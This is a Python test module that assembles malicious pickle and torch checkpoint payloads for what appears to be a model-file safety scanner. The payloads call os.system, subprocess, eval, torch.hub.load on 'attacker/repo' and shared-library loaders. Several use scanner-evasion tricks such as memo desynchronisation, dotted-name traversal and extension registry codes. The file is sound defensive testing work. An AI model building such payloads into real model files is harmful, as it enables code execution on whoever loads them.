"""Names that must not be imported, and the ways to hide that they are."""

from __future__ import annotations

from tests.attacks.assemble import PROTO4, call, items, mapping, name, payload_zip, pickled, stack_name, system, tensor, text, torch_zip
from tests.attacks.catalogue import attack

DANGER = "danger"


@attack(DANGER, "P-CALL")
def os_system_checkpoint() -> bytes:
    """A torch zip with an honest tensor beside a call of os.system."""
    return torch_zip(pickled(mapping(weight=tensor(), payload=system())))


@attack(DANGER, "P-CALL")
def posix_system() -> bytes:
    return payload_zip(system("posix"))


@attack(DANGER, "P-CALL")
def builtins_eval() -> bytes:
    return payload_zip(call("__builtin__", "eval", text("1+1")))


@attack(DANGER, "P-CALL")
def subprocess_popen() -> bytes:
    return payload_zip(call("subprocess", "Popen", text("true")))


@attack(DANGER, "P-CALL")
def unlisted_stdlib_gadget() -> bytes:
    return payload_zip(call("multiprocessing.util", "spawnv_passfds", b"C\x04true", b"]", b")"))


@attack(DANGER, "P-CALL")
def removed_stdlib_gadget() -> bytes:
    return payload_zip(call("distutils.spawn", "spawn", b"]"))


@attack(DANGER, "P-CALL")
def resolve_name() -> bytes:
    return payload_zip(call("pkgutil", "resolve_name", text("os:system")))


@attack(DANGER, "P-CALL")
def torch_hub() -> bytes:
    return payload_zip(call("torch.hub", "load", text("attacker/repo"), text("model")))


@attack(DANGER, "P-CALL")
def torch_load_library() -> bytes:
    return payload_zip(call("torch._ops", "load_library", text("/tmp/evil.so")))


@attack(DANGER, "P-CALL")
def numpy_load() -> bytes:
    return payload_zip(call("numpy", "load", text("evil.npy")))


@attack(DANGER, "P-CALL")
def pandas_read_pickle() -> bytes:
    return payload_zip(call("pandas", "read_pickle", text("evil.pkl")))


@attack(DANGER, "P-CALL")
def joblib_load() -> bytes:
    return payload_zip(call("joblib", "load", text("evil.joblib")))


@attack(DANGER, "P-CALL")
def transformers_dynamic_module() -> bytes:
    return payload_zip(call("transformers.dynamic_module_utils", "get_class_in_module", text("X"), text("evil.py")))


@attack(DANGER, "P-IMPORT")
def dotted_name() -> bytes:
    return payload_zip(stack_name("random", "_os.system") + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-IMPORT")
def dotted_name_of_torch() -> bytes:
    return payload_zip(stack_name("torch", "serialization.os.system") + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-IMPORT")
def dotted_name_of_a_stranger() -> bytes:
    return payload_zip(stack_name("harmless", "inner.os.system") + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-CALL")
def python_2_alias() -> bytes:
    return payload_zip(call("cPickle", "loads", text("cos\nsystem\n.")))


@attack(DANGER, "P-CALL")
def python_2_commands() -> bytes:
    return payload_zip(call("commands", "getoutput", text("true")))


@attack(DANGER, "P-DYNGLOBAL")
def computed_name() -> bytes:
    module = call("_codecs", "encode", text("os"), text("latin1"))
    return payload_zip(module + text("system") + b"\x93", PROTO4)


@attack(DANGER, "P-EXT")
def extension_registry() -> bytes:
    return payload_zip(b"\x82\x01")


@attack(DANGER, "P-CALL")
def extension_registration() -> bytes:
    return payload_zip(call("copyreg", "add_extension", text("os"), text("system"), b"K\x01") + b"0\x82\x01")


@attack(DANGER, "P-IMPORT")
def dunder_of_a_stranger() -> bytes:
    return payload_zip(stack_name("harmless", "__loader__"), PROTO4)


@attack(DANGER, "P-IMPORT")
def storage_like_name() -> bytes:
    """torch special-cases every name with "Storage" in it; only the exact names are plain."""
    return payload_zip(name("torch.evil", "EvilStorage"))


@attack("suspicious", "P-UNKNOWN")
def unknown_class() -> bytes:
    return payload_zip(call("somewhere.models", "Network"))


@attack(DANGER, "P-CALL")
def memo_desync() -> bytes:
    """Scanners that remember the argument instead of the value see "collections"; the real memo holds "os"."""
    body = text("os") + b"q\x00" + b"0" + text("collections") + b"q\x01" + b"0" + b"h\x00q\x01" + text("system") + b"\x93"
    return payload_zip(body + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-CALL")
def module_put_after_pop() -> bytes:
    body = MEMO_WITHOUT_VALUE + text("os") + text("system") + b"\x93" + items(text("true")) + b"R"
    return payload_zip(body, PROTO4)


MEMO_WITHOUT_VALUE = text("a") + text("b") + b"0p5\n0"


@attack("error", "P-PARSE")
def stack_global_first() -> bytes:
    """The first opcode is STACK_GLOBAL, with nothing to take."""
    return payload_zip(b"\x93")
